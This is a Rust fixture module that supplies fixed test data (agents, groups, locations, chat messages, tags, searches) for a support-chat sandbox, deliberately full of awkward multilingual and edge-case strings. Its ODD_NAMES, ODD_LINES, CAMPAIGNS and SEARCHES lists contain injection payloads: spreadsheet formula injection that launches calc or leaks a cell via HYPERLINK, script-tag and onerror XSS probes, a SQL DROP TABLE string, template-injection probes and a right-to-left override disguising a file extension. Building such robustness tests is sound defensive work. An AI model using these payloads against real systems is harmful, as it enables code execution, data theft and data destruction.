//! The people and texts of the sandbox's world: fixed lists with difficult content (many scripts,
//! quotes, line breaks, formulas, script tags, bidi marks), because real archives contain such
//! content.

use serde::Serialize;

/// An agent.
#[derive(Debug)]
pub struct Agent {
    pub login: &'static str,
    pub name: &'static str,
    /// `owner`, `administrator` or `normal`.
    pub permission: &'static str,
    /// `accepting chats`, `not accepting chats` or `offline`.
    pub status: &'static str,
    pub job_title: &'static str,
}

/// The number of agents.
pub const AGENT_COUNT: usize = 12;

pub const AGENTS: [Agent; AGENT_COUNT] = [
    agent(
        "agent@sandbox.test",
        "Ingrid Åsheim",
        "owner",
        "accepting chats",
        "Head of support",
    ),
    agent(
        "liam.obrien@sandbox.test",
        "Liam O'Brien",
        "administrator",
        "accepting chats",
        "Team lead, \"night shift\"",
    ),
    agent(
        "zofia@sandbox.test",
        "Zofia Wójcik-Żądło",
        "normal",
        "accepting chats",
        "Support agent",
    ),
    agent(
        "haruto@sandbox.test",
        "佐藤 陽翔",
        "normal",
        "not accepting chats",
        "サポート担当",
    ),
    agent(
        "layla@sandbox.test",
        "ليلى الحسن",
        "normal",
        "accepting chats",
        "دعم العملاء",
    ),
    agent(
        "noam@sandbox.test",
        "נועם כהן",
        "normal",
        "offline",
        "Support agent",
    ),
    agent(
        "priya@sandbox.test",
        "Priya Raghunathan 🌸",
        "normal",
        "accepting chats",
        "Billing",
    ),
    agent(
        "joao@sandbox.test",
        "João da Conceição",
        "normal",
        "offline",
        "",
    ),
    agent(
        "oksana@sandbox.test",
        "Оксана Шевченко",
        "normal",
        "accepting chats",
        "Orders",
    ),
    agent(
        "minh@sandbox.test",
        "Nguyễn Thị Minh Khai",
        "normal",
        "not accepting chats",
        "Support agent",
    ),
    agent(
        "smith.john+chat@sandbox.test",
        "Smith, John",
        "administrator",
        "offline",
        "Support; returns",
    ),
    agent(
        "adaeze@sandbox.test",
        "Adaeze Ọlámide",
        "normal",
        "accepting chats",
        "Support agent",
    ),
];

const fn agent(
    login: &'static str,
    name: &'static str,
    permission: &'static str,
    status: &'static str,
    job_title: &'static str,
) -> Agent {
    Agent {
        login,
        name,
        permission,
        status,
        job_title,
    }
}

/// A group of agents. Group 0 contains all agents and has no list.
#[derive(Debug)]
pub struct Group {
    pub id: u32,
    pub name: &'static str,
    pub language: &'static str,
    /// Indexes into `AGENTS`.
    pub agents: Option<&'static [usize]>,
    pub status: &'static str,
}

pub const GROUPS: [Group; 6] = [
    Group {
        id: 0,
        name: "All operators",
        language: "en",
        agents: None,
        status: "accepting chats",
    },
    Group {
        id: 1,
        name: "Sales",
        language: "en",
        agents: Some(&[0, 1, 6, 10]),
        status: "accepting chats",
    },
    Group {
        id: 2,
        name: "Support, Nordics & Baltics",
        language: "no",
        agents: Some(&[0, 2, 7, 8]),
        status: "accepting chats",
    },
    Group {
        id: 3,
        name: "サポート",
        language: "ja",
        agents: Some(&[3, 9]),
        status: "not accepting chats",
    },
    Group {
        id: 4,
        name: "الدعم",
        language: "ar",
        agents: Some(&[4, 5, 11]),
        status: "accepting chats",
    },
    Group {
        id: 7,
        name: "Billing \"urgent\" 💳",
        language: "en",
        agents: Some(&[6, 8, 10, 11]),
        status: "offline",
    },
];

/// The group lists that a chat can have; common ones occur several times.
pub const ROUTES: [&[u32]; 12] = [
    &[0],
    &[1],
    &[1],
    &[2],
    &[2],
    &[3],
    &[4],
    &[7],
    &[1, 7],
    &[0, 2],
    &[2],
    &[0],
];

/// The location of a visitor.
#[derive(Debug, Serialize)]
pub struct Place {
    pub city: &'static str,
    pub region: &'static str,
    pub country: &'static str,
    pub country_code: &'static str,
    pub timezone: &'static str,
}

pub const PLACES: [Place; 10] = [
    place("Oslo", "Oslo", "Norway", "NO", "Europe/Oslo"),
    place("Łódź", "Łódzkie", "Poland", "PL", "Europe/Warsaw"),
    place("São Paulo", "SP", "Brazil", "BR", "America/Sao_Paulo"),
    place("大阪市", "大阪府", "Japan", "JP", "Asia/Tokyo"),
    place("Cairo", "", "Egypt", "EG", "Africa/Cairo"),
    place(
        "Washington, D.C.",
        "District of Columbia",
        "United States",
        "US",
        "America/New_York",
    ),
    place(
        "Saint John's",
        "Newfoundland",
        "Canada",
        "CA",
        "America/St_Johns",
    ),
    place(
        "Auckland",
        "Auckland",
        "New Zealand",
        "NZ",
        "Pacific/Auckland",
    ),
    place("Kathmandu", "Bagmati", "Nepal", "NP", "Asia/Kathmandu"),
    place("", "", "Reserved", "", "Etc/UTC"),
];

const fn place(
    city: &'static str,
    region: &'static str,
    country: &'static str,
    country_code: &'static str,
    timezone: &'static str,
) -> Place {
    Place {
        city,
        region,
        country,
        country_code,
        timezone,
    }
}

pub const FIRST_NAMES: [&str; 16] = [
    "Ada",
    "Bjørn",
    "Chloé",
    "Dmitri",
    "Elif",
    "Fatima",
    "Günther",
    "Hana",
    "Iñigo",
    "Jürgen",
    "Kaja",
    "Mei",
    "Oluwaseun",
    "Søren",
    "Tomáš",
    "Zoë",
];

pub const LAST_NAMES: [&str; 16] = [
    "Lovelace",
    "Nordås",
    "D'Angelo",
    "Иванов",
    "Yılmaz",
    "Al-Farsi",
    "Müller",
    "Suzuki",
    "Núñez",
    "Strauß",
    "Kowalska",
    "Wang",
    "Adébáyọ̀",
    "Kierkegaard",
    "Dvořák",
    "van der Berg",
];

/// Names that careless programs handle wrongly. The bidi marks are escaped, so that this file looks
/// as it is stored.
pub const ODD_NAMES: [&str; 14] = [
    "=1+1",
    "+47 22 33 44 55",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "Doe, \"Jane\"",
    "Zeile eins\nZeile zwei",
    "🦊 фокс 👩‍👩‍👧‍👦",
    "محمد عبد الله",
    "\u{202e}gpj.elcimsu\u{202c}",
    "\u{2067}דנה\u{2069} Cohen",
    "  spaces  around  ",
    "\tTab\there",
    "NULL",
];

pub const VISITOR_LINES: [&str; 18] = [
    "Hello, is anybody there?",
    "Hei! Pakken min har ikke kommet enda.",
    "My invoice says €1,299.00, but I paid 1.199,00.",
    "Can I change the delivery address?",
    "Dzień dobry, nie mogę się zalogować.",
    "注文をキャンセルしたいです。",
    "هل يمكنني استرداد أموالي؟",
    "yes",
    "No, that did not help :(",
    "Thanks a lot! 🎉🎉",
    "It says \"Error 0x80070057\" and then closes.",
    "First I did this\nthen that\r\nand then it broke.",
    "Ça marche, merci bien",
    "How long does it take to get to St. John's, NL?",
    "ok",
    "Where do I find the size guide?",
    "You sent me the blue one; I ordered \"deep blue\", size 42,5.",
    "שלום, אני צריך עזרה עם ההזמנה שלי",
];

pub const AGENT_LINES: [&str; 14] = [
    "Hello, how may I help you?",
    "Let me have a look at that for you, one moment.",
    "Could you tell me your order number, please?",
    "I have sent you a link by e-mail.",
    "The refund takes 3-5 working days.",
    "Beklager det! Jeg sjekker med lageret.",
    "少々お待ちください。",
    "تم حل المشكلة، شكراً لصبرك.",
    "Is there anything else I can do?",
    "Please try again in a private window, then clear the cache; that solves it for most people.",
    "That is in stock: 12 left in Oslo, 3 in Łódź.",
    "Have a nice day 😊",
    "I am passing you on to Billing, they know more about this.",
    "1) Open Settings\n2) Choose \"Orders\"\n3) Press Change",
];

/// Messages that careless programs handle wrongly.
pub const ODD_LINES: [&str; 16] = [
    "=1+1",
    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
    "+47 900 00 000",
    "-1",
    "@sum(1+1)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a,b;c\td|e",
    "\"quoted\", and \"\"twice\"\"",
    "line one\r\nline two\n\nline four",
    "\u{202e}txt.exe\u{202c} \u{2066}isolated\u{2069}",
    "👨‍👩‍👧‍👦 🏳️‍🌈 é e\u{301} \u{feff}bom",
    "'; DROP TABLE chats; --",
    "null",
    "\\ud83d is not an emoji \\n",
    "{{7*7}} ${7*7} %s %n",
];

pub const USER_AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 \
     (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "",
];

pub const PAGES: [&str; 6] = [
    "https://shop.sandbox.test/",
    "https://shop.sandbox.test/checkout?step=2&basket=%F0%9F%91%9F",
    "https://shop.sandbox.test/hjelp/retur#størrelser",
    "https://shop.sandbox.test/search?q=%22deep%20blue%22,42",
    "https://shop.sandbox.test/jp/ヘルプ",
    "",
];

pub const TAGS: [&str; 8] = [
    "refund",
    "sales",
    "bug, urgent",
    "vip ⭐",
    "spam",
    "=tag",
    "retur",
    "return \"late\"",
];

pub const CAMPAIGNS: [&str; 5] = [
    "spring, 2026",
    "newsletter",
    "=IMPORTXML(\"x\")",
    "",
    "høst",
];

/// Search terms of visitors.
pub const SEARCHES: [&str; 8] = [
    "blue shoes",
    "sko, str. 42",
    "\"deep blue\" & size<43",
    "靴 大阪",
    "=cmd|' /C calc'!A0",
    "buty zimowe łódź",
    "return policy > 30 days",
    "حذاء أزرق",
];

pub const ORGANIZATIONS: [&str; 4] = [
    "Smith & Sons <Ltd>",
    "Åsgård Skole AS",
    "株式会社サンプル",
    "Example, Inc.",
];

pub const PROVIDERS: [&str; 3] = ["Telenor Norge AS", "O'Neill \"Fast\" Net", "AT&T"];
